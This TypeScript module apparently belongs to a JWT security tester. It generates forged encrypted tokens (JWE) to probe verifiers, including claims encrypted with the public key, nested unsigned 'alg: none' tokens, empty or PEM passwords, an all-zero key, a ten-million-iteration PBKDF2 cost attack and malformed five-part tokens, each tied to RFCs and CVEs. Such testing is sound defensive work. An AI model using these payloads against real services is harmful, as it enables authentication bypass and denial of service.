/** Encrypted tokens: claims that an attacker encrypts with the public key, or with a known secret. */

import { encodeBase64url } from '../../../core/encoding/base64url.ts';
import type { Forge } from '../forge.ts';
import { type AttackCase, caseOf } from './attack-case.ts';
import { encryptDirect, encryptEcdh, encryptPassword, encryptRsa } from './encrypted-token.ts';

const add = caseOf('jwe', { level: 'hole', reference: 'RFC 8725 §2.3' });

const NESTED = { reference: 'RFC 7519 §11.2; CVE-2026-29000' };
const COST = {
  level: 'note',
  reference: 'RFC 7518 §4.8.1.2; CVE-2023-52428, CVE-2026-27932',
} as const;
const PARTS = { level: 'fault', reference: 'RFC 7516 §9' } as const;

/** PBKDF2 needs some seconds for it. */
const MANY_ITERATIONS = 10_000_000;

export function jweCases(forge: Forge): AttackCase[] {
  const claims = () => forge.claimsText();
  const nested = () => forge.unsigned({ alg: 'none' });
  const { kid } = forge.header();
  const cty = { kid, cty: 'JWT' };
  const key = forge.genuine.publicKey;
  const pem = () => String(forge.publicKey.export({ format: 'pem', type: 'spki' }));
  return [
    ...(key?.asymmetricKeyType === 'rsa'
      ? [
          add('rsa', 'claims encrypted with the public key', () =>
            encryptRsa(key, { kid }, claims()),
          ),
          add(
            'rsa-nested',
            'an unsigned token encrypted with the public key',
            () => {
              return encryptRsa(key, cty, nested());
            },
            NESTED,
          ),
        ]
      : []),
    ...(key?.asymmetricKeyType === 'ec'
      ? [
          add('ecdh', 'claims encrypted with the public key', () =>
            encryptEcdh(key, { kid }, claims()),
          ),
          add(
            'ecdh-nested',
            'an unsigned token encrypted with the public key',
            () => {
              return encryptEcdh(key, cty, nested());
            },
            NESTED,
          ),
        ]
      : []),
    ...(key
      ? [
          add('password-pem', 'the password is the PEM', () =>
            encryptPassword(pem(), { kid }, claims()),
          ),
        ]
      : []),
    add('password-empty', 'the password is empty', () => encryptPassword('', { kid }, claims())),
    add('zero-key', 'the key is 32 zero bytes', () =>
      encryptDirect(Buffer.alloc(32), { kid }, claims()),
    ),
    add(
      'zero-key-nested',
      'an unsigned token, the key is 32 zero bytes',
      () => {
        return encryptDirect(Buffer.alloc(32), cty, nested());
      },
      NESTED,
    ),
    add(
      'iterations',
      `the password needs ${MANY_ITERATIONS} iterations`,
      () => {
        return encryptPassword('', { kid }, claims(), MANY_ITERATIONS);
      },
      COST,
    ),
    add('empty-parts', 'only the header of five parts', () => {
      return `${encodeBase64url(JSON.stringify({ alg: 'dir', enc: 'A256GCM' }))}....`;
    }),
    add(
      'five-parts',
      'a genuine token with two parts more',
      () => `${forge.genuineToken()}.e30.e30`,
      PARTS,
    ),
  ];
}
